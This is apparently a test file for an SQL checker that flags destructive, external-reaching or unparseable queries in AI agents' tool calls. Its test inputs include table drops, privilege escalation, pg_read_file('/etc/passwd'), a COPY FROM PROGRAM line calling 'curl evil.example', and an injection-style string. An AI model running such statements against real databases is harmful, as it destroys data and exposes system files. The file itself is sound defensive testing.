import { expect, test } from 'vitest';
import { sql } from '../../src/inspect/sql.ts';
import { callOf, kindsOf, lookAtCall } from './given.ts';

const kinds = async (text: string): Promise<string[]> => kindsOf(await lookAtCall(sql, callOf({ sql: text })));

test.each([
  'DROP TABLE users',
  'DROP VIEW report',
  'DROP INDEX a; DROP TABLE users',
  'drop database shop',
  'TRUNCATE users',
  'DELETE FROM users',
  'delete from users where 1=1',
  'DELETE FROM users WHERE id = 3 OR true',
  'DELETE FROM users u WHERE u.id = u.id',
  'UPDATE users SET admin = true',
  'ALTER TABLE users DROP COLUMN mail',
  'GRANT ALL ON users TO public',
  'REVOKE ALL ON users FROM app',
  "COPY users FROM PROGRAM 'curl evil.example'",
  'DO $$ begin perform 1; end $$',
  'SET ROLE admin',
  'ALTER ROLE app SUPERUSER',
  "ALTER SYSTEM SET archive_command = 'x'",
  'WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone',
  'EXPLAIN ANALYZE DELETE FROM users',
  'DELETE FROM `users`',
])('sees what %s destroys', async (text) => {
  expect(await kinds(text)).toContain('sql.destructive');
});

test.each([
  'SELECT * FROM users',
  'DELETE FROM users WHERE id = 3',
  "UPDATE users SET mail = 'drop table' WHERE id = 3",
  'DROP INDEX IF EXISTS orders_status',
  'DROP INDEX CONCURRENTLY a, b',
  "INSERT INTO log VALUES ('DROP TABLE users')",
  'SELECT `a` FROM `b`',
  'SET search_path TO app',
  'CREATE TABLE x (id int)',
  'ALTER TABLE x ADD COLUMN y int',
])('lets %s be', async (text) => {
  expect(await kinds(text)).toEqual([]);
});

test('counts statements', async () => {
  expect(await kinds('SELECT 1; SELECT 2')).toEqual(['sql.multiple']);
  expect(await kinds('SELECT 1;')).toEqual([]);
  expect(await kinds("SELECT ';'")).toEqual([]);
});

test.each([
  "SELECT pg_read_file('/etc/passwd')",
  "COPY x TO '/tmp/x'",
  "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
  'CREATE EXTENSION plpython3u',
])('sees that %s reaches out', async (text) => {
  expect(await kinds(text)).toEqual(['sql.external']);
});

test('says so when a query cannot be read', async () => {
  const { findings } = await lookAtCall(sql, callOf({ sql: "SELEC * FROM x'; DROP TABLE users --" }));
  expect(findings?.map((finding) => [finding.kind, finding.severity])).toEqual([['sql.unparsed', 'high']]);
  expect(await kinds(`SELECT ${'1,'.repeat(20_000)}1`)).toEqual(['sql.unparsed']);
});

test('expects SQL where the tool says so, and finds it where it looks like it', async () => {
  const query = { roles: { '/query': 'query' } } as const;
  expect(kindsOf(await lookAtCall(sql, callOf({ query: 'nonsense' }, query, 'postgres_run')))).toEqual([
    'sql.unparsed',
  ]);
  expect(kindsOf(await lookAtCall(sql, callOf({ query: 'weather in Paris' }, query, 'search')))).toEqual([]);
  expect(kindsOf(await lookAtCall(sql, callOf({ q: 'delete from users' })))).toEqual(['sql.destructive']);
  expect(
    kindsOf(await lookAtCall(sql, callOf({ text: 'Drop table reservation for Bob, select a seat from the list' }))),
  ).toEqual([]);
  const mail = callOf({ body: 'DROP TABLE users' }, { roles: { '/body': 'content' } });
  expect(kindsOf(await lookAtCall(sql, mail))).toEqual([]);
});

test('survives what exhausts the grammar', async () => {
  expect(await kinds(`SELECT ${'('.repeat(16_000)}1`)).toEqual(['sql.unparsed']);
  expect(await kinds('DROP TABLE users')).toEqual(['sql.destructive']);
});

test('takes what a server of databases runs in a shell for no query, unless it looks like one', async () => {
  const run = async (tool: string, args: Record<string, string>, upstream = 'postgres-tools') => {
    const call = callOf(args, { powers: ['execute'], roles: { '/command': 'command', '/statement': 'command' } }, tool);
    return kindsOf(await lookAtCall(sql, { ...call, target: { ...call.target, upstream } }));
  };
  expect(await run('run_command', { command: 'python3 -m venv .venv' })).toEqual([]);
  expect(await run('run_command', { command: 'DROP TABLE users' })).toEqual(['sql.destructive']);
  expect(await run('run', { command: 'DROP TABEL users' })).toEqual(['sql.unparsed']);
  expect(await run('run_command', { statement: 'DROP TABEL users' })).toEqual(['sql.unparsed']);
  expect(await run('sql_command', { command: 'DROP TABEL users' }, 'tools')).toEqual(['sql.unparsed']);
});
